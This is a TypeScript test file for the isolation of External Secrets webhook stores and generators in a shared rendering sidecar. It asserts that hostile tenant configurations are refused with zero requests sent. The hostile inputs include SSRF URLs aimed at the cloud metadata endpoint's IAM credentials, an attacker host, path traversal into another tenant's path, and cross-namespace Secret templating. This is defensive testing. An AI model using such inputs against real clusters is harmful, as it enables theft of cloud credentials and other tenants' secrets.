// Tenancy for webhook stores and Webhook generators in the shared sidecar (`eso-render generate`): a store
// the application defines calls only URLs under the platform's spec.webhook.allowedURLs (checked on the
// rendered URL, before any request), fills its templates only with Secrets of the app's own namespace,
// and without allowedURLs is refused outright. Every refusal is asserted as zero requests at both the
// allowed backend and an attacker's server. Needs `npm run build`.
import { parseAllDocuments } from 'yaml';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { FakeWebhook } from '../servers/webhook/server.js';
import { Attacker, Tenancy, b64, tempRoot, writePlatform, type Platform } from './tenancy-support.js';

const ESO = 'external-secrets.io/v1';
const PAYMENTS_TOKEN = 'wh-payments-3318';
const OTHER_TEAM_TOKEN = 'wh-other-team-7741';

let wh: FakeWebhook;
let attacker: Attacker;
const tmp = tempRoot();
const tenancy = new Tenancy();
let p: Platform;
let closed: Platform;

beforeAll(async () => {
  wh = await FakeWebhook.start();
  attacker = await Attacker.start();
  const creds = {
    'payments/api-auth/token': PAYMENTS_TOKEN,
    'other-team/api-auth/token': OTHER_TEAM_TOKEN,
  };
  const rules = [{ name: 'pay-self', match: { projects: ['payments'] }, allowStreamStores: true, generators: [{ kind: 'Webhook', name: '*', origin: 'application', methods: ['GET', 'POST'] }] }];
  p = writePlatform(tmp.root, { policy: { rules }, webhook: { allowedURLs: [`${wh.url}/payments/`] } }, creds);
  closed = writePlatform(tmp.root, { policy: { rules } }, creds);
});
afterAll(async () => {
  await wh?.close();
  await attacker?.stop();
  tenancy.dispose();
  tmp.dispose();
});
beforeEach(() => {
  wh.reset();
  attacker.seen.length = 0;
  wh.route('GET', '/payments/db', (q) => ({ body: JSON.stringify({ password: q.headers['authorization'] === `Bearer ${PAYMENTS_TOKEN}` ? 'pw-payments-3318' : 'wrong-token' }) }));
});

const app = () => ({ app: 'pay-api', namespace: 'payments', project: 'payments' });
const docs = (s: string) => parseAllDocuments(s).map((d) => d.toJS() as { kind?: string; data?: Record<string, string> });
const store = (kind: 'SecretStore' | 'ClusterSecretStore', url: string, secretNamespace?: string) => ({
  apiVersion: ESO,
  kind,
  metadata: kind === 'SecretStore' ? { name: 'wh', namespace: 'payments' } : { name: 'wh' },
  spec: {
    provider: {
      webhook: {
        url,
        headers: { Authorization: 'Bearer {{ .auth.token }}' },
        result: { jsonPath: '$.password' },
        secrets: [{ name: 'auth', secretRef: { name: 'api-auth', ...(secretNamespace ? { namespace: secretNamespace } : {}) } }],
      },
    },
  },
});
const reads = (s: { kind: string }, key = 'db') => ({
  apiVersion: ESO,
  kind: 'ExternalSecret',
  metadata: { name: 'db', namespace: 'payments' },
  spec: { secretStoreRef: { kind: s.kind, name: 'wh' }, target: { name: 'db' }, data: [{ secretKey: 'password', remoteRef: { key } }] },
});
const none = () => {
  expect(wh.requests).toEqual([]);
  expect(attacker.seen).toEqual([]);
};

describe('hostile tenant: webhook stores and generators the app defines', () => {
  it("a SecretStore under the allowed prefix with the app's own Secret reads", async () => {
    const s = store('SecretStore', `${wh.url}/payments/{{ .remoteRef.key }}`);
    const r = await tenancy.run([s, reads(s)], p, app());
    expect(r.code, r.stderr).toBe(0);
    expect(b64(docs(r.stdout).find((d) => d.kind === 'Secret')!.data?.['password'])).toBe('pw-payments-3318');
    expect(wh.requests).toHaveLength(1);
  });

  for (const [what, url] of [
    ['the cloud metadata address', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    ['an attacker host', 'ATTACKER/payments/db'],
    ["another tenant's path on the allowed host", 'WH/other-team/db'],
    ['a path that climbs out with ..', 'WH/payments/../other-team/db'],
  ] as const) {
    it(`a URL to ${what}: refused on the rendered URL, zero requests`, async () => {
      const s = store('SecretStore', url.replace('ATTACKER', attacker.url).replace('WH', wh.url));
      const r = await tenancy.run([s, reads(s)], p, app());
      expect(r.code, r.stderr).toBe(1);
      // A `..` is refused as written (before the parser would resolve it), the others by the allowlist.
      expect(r.stderr).toMatch(url.includes('..') ? /webhook\.url: the rendered URL has a \. or \.\. path segment/ : /policy: webhook URL .* is not under any of the platform's allowed webhook URLs/);
      none();
    });
  }

  it('a key cannot steer the URL out of the prefix: it is QueryEscaped into it', async () => {
    const s = store('SecretStore', `${wh.url}/{{ .remoteRef.key }}`);
    const r = await tenancy.run([s, reads(s, 'payments/db')], p, app());
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/policy: webhook URL .*\/payments%2Fdb is not under/);
    none();
  });

  it('without spec.webhook.allowedURLs an app-defined webhook is refused, zero requests', async () => {
    const s = store('SecretStore', `${wh.url}/payments/{{ .remoteRef.key }}`);
    const r = await tenancy.run([s, reads(s)], closed, app());
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain('names no webhook destinations');
    none();
  });

  it("a ClusterSecretStore templating another namespace's Secret into headers: refused, zero requests, no token shown", async () => {
    const s = store('ClusterSecretStore', `${wh.url}/payments/{{ .remoteRef.key }}`, 'other-team');
    const r = await tenancy.run([s, reads(s)], p, app());
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/credential other-team\/api-auth is outside the application's destination namespace "payments"/);
    expect(r.stderr).not.toContain(OTHER_TEAM_TOKEN);
    none();
  });

  it('a Webhook generator the app defines: same URL policy, zero requests outside it', async () => {
    const gen = {
      apiVersion: 'generators.external-secrets.io/v1alpha1',
      kind: 'Webhook',
      metadata: { name: 'steal', namespace: 'payments' },
      spec: { url: 'http://169.254.169.254/latest/api/token', method: 'POST', result: {} },
    };
    const es = {
      apiVersion: ESO,
      kind: 'ExternalSecret',
      metadata: { name: 'gen', namespace: 'payments' },
      spec: { dataFrom: [{ sourceRef: { generatorRef: { apiVersion: 'generators.external-secrets.io/v1alpha1', kind: 'Webhook', name: 'steal' } } }] },
    };
    const r = await tenancy.run([gen, es], p, app());
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/Webhook payments\/steal: policy: webhook URL http:\/\/169.254.169.254\/latest\/api\/token is not under/);
    none();
  });
});
